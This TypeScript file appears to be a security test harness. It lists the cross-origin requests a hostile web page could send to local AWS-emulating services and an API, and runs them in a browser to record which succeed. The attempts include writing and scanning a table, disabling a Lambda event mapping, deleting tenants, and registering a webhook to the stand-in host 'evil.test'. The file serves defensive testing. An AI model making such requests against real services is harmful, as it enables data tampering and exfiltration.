/** What a hostile page knows. It has read the source and guessed every name and key, but not the table's address. */
export interface Known {
  readonly apiKey: string;
  readonly tableName: string;
  readonly queueUrl: string;
  readonly functionName: string;
  readonly mappingId: string;
}

/** One thing that a page can do to another origin. */
export type Attempt = { readonly path: string } & (
  | {
      readonly by: 'fetch';
      readonly mode: 'cors' | 'no-cors';
      readonly method: string;
      readonly headers?: Readonly<Record<string, string>>;
      readonly body?: string;
    }
  | { readonly by: 'form'; readonly method: string; readonly enctype: string; readonly fields: Record<string, string> }
  | { readonly by: 'img' | 'script' | 'link' | 'iframe' | 'EventSource' | 'WebSocket' | 'beacon' }
);

const SIGNED = { authorization: 'AWS4-HMAC-SHA256 Credential=a/20260101/b/c/d, SignedHeaders=host, Signature=e' };
const FORM_TYPES = ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded'];
/** A request to SNS, which is part of the queue engine and accepts HTML forms. */
const TOPIC = { Action: 'CreateTopic', Name: 'hostile', Version: '2010-03-31' };

const operation = (target: string, body: object, version = '1.0') => ({
  method: 'POST',
  path: '/',
  headers: { ...SIGNED, 'x-amz-target': target, 'content-type': `application/x-amz-json-${version}` },
  body: JSON.stringify(body),
});

/** Returns every attempt of a page, for all kinds of port. */
export function attempts({ apiKey, tableName, queueUrl, functionName, mappingId }: Known): Attempt[] {
  const item = { PK: { S: 'HOSTILE' }, SK: { S: 'PAGE' } };
  const keyed = { authorization: `Bearer ${apiKey}`, 'content-type': 'application/json' };
  const calls = [
    operation('DynamoDB_20120810.PutItem', { TableName: tableName, Item: item }),
    operation('DynamoDB_20120810.Scan', { TableName: tableName }),
    operation('AmazonSQS.SendMessage', { QueueUrl: queueUrl, MessageBody: 'hostile' }),
    operation('TrentService.Encrypt', { KeyId: 'k', Plaintext: 'aGk=' }, '1.1'),
    operation('GraniteServiceVersion20100801.DescribeAlarms', {}, '1.1'),
    { method: 'POST', path: `/2015-03-31/functions/${functionName}/invocations`, headers: SIGNED, body: '{}' },
    {
      method: 'PUT',
      path: `/2015-03-31/event-source-mappings/${mappingId}`,
      headers: SIGNED,
      body: '{"Enabled":false}',
    },
    { method: 'PUT', path: '/hostile-bucket', headers: SIGNED },
    { method: 'PUT', path: '/v1/webhooks', headers: keyed, body: '{"url":"https://evil.test/hook"}' },
    { method: 'POST', path: '/v1/tenants', headers: keyed, body: '{"name":"x","region":"kr","externalId":"hostile"}' },
    { method: 'DELETE', path: '/v1/tenants/x', headers: keyed },
    ...['/', '/v1/whoami', '/_fauxqs/queues', '/openapi.json'].map((path) => ({ method: 'GET', path })),
    { method: 'HEAD', path: '/' },
    ...FORM_TYPES.map((type) => ({
      method: 'POST',
      path: '/',
      headers: { 'content-type': type },
      body: new URLSearchParams(TOPIC).toString(),
    })),
  ];
  const elements = (['img', 'script', 'link'] as const).flatMap((by) =>
    ['/', '/page.js', '/style.css', '/icon.svg', '/v1/whoami'].map((path) => ({ by, path })),
  );
  // Each of these tries only one path. Chromium makes a page wait seconds between failed handshakes, and a frame costs
  // as much as a page.
  const others = (['iframe', 'EventSource', 'WebSocket', 'beacon'] as const).map((by) => ({ by, path: '/v1/whoami' }));
  return [
    ...calls.map((call) => ({ by: 'fetch', mode: 'cors', ...call }) as const),
    // Without a preflight, a page can send only GET, HEAD and POST, and hardly any headers of its own.
    ...calls
      .filter(({ method }) => method === 'GET' || method === 'POST')
      .map((call) => ({ by: 'fetch', mode: 'no-cors', ...call }) as const),
    ...FORM_TYPES.map((enctype) => ({ by: 'form', method: 'POST', path: '/', enctype, fields: TOPIC }) as const),
    { by: 'form', method: 'GET', path: '/', enctype: 'text/plain', fields: TOPIC },
    ...elements,
    ...others,
  ];
}

/**
 * Runs in a browser, as the hostile page. Returns the outcome of each attempt, such as `failed`; `opaque` if it was sent
 * but has no readable response; `TYPE STATUS` for a readable response; `loaded` for content that the page could use.
 */
export async function carryOut(about: { origin: string; all: Attempt[] }): Promise<[what: string, outcome: string][]> {
  const GIVE_UP_MS = 60_000;
  return Promise.all(
    about.all.map(async (attempt): Promise<[string, string]> => {
      const givingUp = new Promise<string>((resolve) => setTimeout(() => resolve('no event'), GIVE_UP_MS));
      const what = [attempt.by, 'method' in attempt ? attempt.method : '', attempt.path].join(' ');
      return [what, await Promise.race([tryOut(attempt).catch(() => 'failed'), givingUp])];
    }),
  );

  async function tryOut(attempt: Attempt): Promise<string> {
    const url = about.origin + attempt.path;
    switch (attempt.by) {
      case 'fetch': {
        const { type, status } = await fetch(url, attempt);
        return type === 'opaque' ? 'opaque' : `${type} ${status}`;
      }
      case 'beacon':
        navigator.sendBeacon(url, 'hostile');
        return 'opaque';
      case 'EventSource':
        return heard(new EventSource(url));
      case 'WebSocket':
        return heard(new WebSocket(url.replace('http', 'ws')));
      case 'form':
        return submitted(url, attempt);
      case 'link':
        return loaded('link', { rel: 'stylesheet', href: url });
      case 'iframe':
        return looked(await frame({ src: url }));
      default:
        return loaded(attempt.by, { src: url });
    }
  }

  function heard(source: EventSource | WebSocket): Promise<string> {
    return new Promise((resolve) => {
      source.onopen = () => resolve('loaded');
      source.onerror = () => {
        source.close();
        resolve('failed');
      };
    });
  }

  function loaded(tag: string, properties: object): Promise<string> {
    return new Promise((resolve) => {
      const element = Object.assign(document.createElement(tag), properties);
      element.onload = () => resolve('loaded');
      element.onerror = () => resolve('failed');
      document.body.append(element);
    });
  }

  function frame(properties: object): Promise<HTMLIFrameElement> {
    return new Promise((resolve) => {
      const element = Object.assign(document.createElement('iframe'), properties);
      element.onload = () => resolve(element);
      document.body.append(element);
    });
  }

  /** Tells whether the page can read a frame. The `load` event does not tell, because every frame loads. */
  function looked(element: HTMLIFrameElement): string {
    return element.contentDocument === null ? 'opaque' : `framed ${element.contentDocument.URL}`;
  }

  async function submitted(action: string, { method, enctype, fields }: Attempt & { by: 'form' }): Promise<string> {
    const target = await frame({ name: `frame-${Math.random()}` });
    const form = Object.assign(document.createElement('form'), { method, enctype, target: target.name, action });
    for (const [name, value] of Object.entries(fields)) {
      form.append(Object.assign(document.createElement('input'), { name, value }));
    }
    document.body.append(form);
    const responded = new Promise((resolve) => {
      target.onload = resolve;
    });
    form.submit();
    await responded;
    return looked(target);
  }
}
